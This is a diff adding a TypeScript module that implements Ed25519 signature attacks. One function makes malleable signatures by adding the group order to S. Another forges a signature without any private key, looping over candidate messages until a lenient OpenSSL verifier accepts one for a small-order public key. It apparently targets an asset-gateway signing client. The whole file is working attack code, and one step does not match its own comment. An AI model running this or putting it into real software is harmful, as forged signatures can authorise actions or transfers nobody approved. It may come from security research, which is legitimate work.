@@ -1,0 +1,47 @@
+import { createHash, createPublicKey, randomBytes, verify } from 'node:crypto';
+import { signerFromBytes } from '@asset-gateway/client';
+import bs58 from 'bs58';
+
+const ORDER = 2n ** 252n + 27742317777372353535851937790883648493n;
+
+const toNumber = (bytes: Uint8Array): bigint => BigInt(`0x${Buffer.from(bytes).reverse().toString('hex')}`);
+const toBytes = (value: bigint): Buffer => Buffer.from(value.toString(16).padStart(64, '0'), 'hex').reverse();
+
+/** The same signature with the group's order added to S: equal to a lenient verifier. */
+export function malleated(signature: Uint8Array): Buffer {
+  const s = toNumber(signature.subarray(32)) + ORDER;
+  return Buffer.concat([signature.subarray(0, 32), toBytes(s)]);
+}
+
+/** Ed25519 as OpenSSL has it, which takes keys of small order. */
+export function verifyLeniently(signature: Uint8Array, message: Uint8Array, publicKey: Uint8Array): boolean {
+  const jwk = { kty: 'OKP', crv: 'Ed25519', x: Buffer.from(publicKey).toString('base64url') };
+  return verify(null, message, createPublicKey({ key: jwk, format: 'jwk' }), signature);
+}
+
+/** An R that is S times the base point: for a key of small order it verifies one message in eight, or more. */
+function scalarAndItsPoint(): Buffer {
+  const seed = randomBytes(32);
+  const scalar = createHash('sha512').update(seed).digest().subarray(0, 32);
+  scalar[0] = (scalar[0] ?? 0) & 248;
+  scalar[31] = ((scalar[31] ?? 0) & 63) | 64;
+  return Buffer.concat([bs58.decode(signerFromBytes(seed).address), toBytes(toNumber(scalar) % ORDER)]);
+}
+
+/** What nobody signed, and a lenient verifier accepts. */
+export interface Forgery {
+  readonly signature: Buffer;
+  readonly message: string;
+  /** Which of the messages it is. */
+  readonly attempt: number;
+}
+
+/** Tries one message after the other until a signature made without the key verifies for it. */
+export function forge(publicKey: Uint8Array, messageOf: (attempt: number) => string): Forgery {
+  const signature = scalarAndItsPoint();
+  for (let attempt = 0; attempt < 1000; attempt++) {
+    const message = messageOf(attempt);
+    if (verifyLeniently(signature, Buffer.from(message), publicKey)) return { signature, message, attempt };
+  }
+  throw new Error('no forgery found');
+}
